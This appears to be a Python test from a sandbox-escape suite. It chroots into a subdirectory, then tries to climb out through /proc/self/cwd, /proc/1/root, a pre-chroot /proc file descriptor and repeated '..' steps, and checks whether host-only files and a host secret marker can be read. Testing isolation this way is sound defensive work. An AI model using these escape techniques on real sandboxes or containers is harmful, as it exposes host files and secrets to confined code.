"""Chroot into a subdirectory, then climb out through /proc/self/cwd, /proc/self/root and a /proc fd opened before the chroot."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, host_only_paths, in_child, libc, sysc  # noqa: F401


def attempt():
    paths = host_only_paths()
    secret = os.environ.get("FB_HOST_SECRET", "")
    found, notes = [], []
    jail = "/tmp/fbx-jail"
    os.makedirs(jail + "/inner", exist_ok=True)
    procfd = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    os.chdir(jail)
    os.chroot(jail + "/inner")  # cwd stays outside the new root
    notes.append("chroot into %s/inner allowed (CAP_SYS_CHROOT is kept)" % jail)

    def check(dirfd, how):
        for p in paths:
            rel = p.lstrip("/")
            try:
                fd = os.open(rel, os.O_RDONLY, dir_fd=dirfd)
            except OSError as e:
                notes.append("%s/%s: %s" % (how, rel[:40], en(e.errno)))
                continue
            try:
                data = os.read(fd, 4096)
            except OSError:
                data = b""
            os.close(fd)
            if secret and secret.encode() in data:
                found.append("read the host marker secret via %s" % how)
            else:
                found.append("opened host-only %s via %s" % (p, how))

    for link in ("self/cwd", "self/root", "thread-self/cwd", "thread-self/root", "1/root", "1/cwd"):
        for climb in ("", "/../../../../../../.."):
            try:
                d = os.open(link + climb, os.O_RDONLY | os.O_DIRECTORY, dir_fd=procfd)
            except OSError as e:
                notes.append("/proc/%s%s: %s" % (link, climb[:3], en(e.errno)))
                continue
            check(d, "/proc/%s%s" % (link, climb))
            os.close(d)
    # the cwd left outside the chroot: climb it
    for _ in range(40):
        os.chdir("..")
    cwd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    check(cwd, "cwd climbed with '..' after chroot")
    out = ["ESC " + x for x in found] + ["NOTE " + x for x in notes[:12]]
    return "\n".join(out)


def main():
    if not host_only_paths():
        print("ERROR: no host-only paths known")
        sys.exit(2)
    res = in_child(attempt)
    for line in res.splitlines():
        if line.startswith("ESC "):
            ESCAPES.append(line[4:])
        elif line.startswith("NOTE "):
            NOTES.append(line[5:])
    if not NOTES and not ESCAPES:
        print("ERROR: child produced no result: %r" % res)
        sys.exit(2)
    NOTES.insert(0, "climbing out of a chroot through /proc links only reaches the sandbox root")


if __name__ == "__main__":
    finish(main)
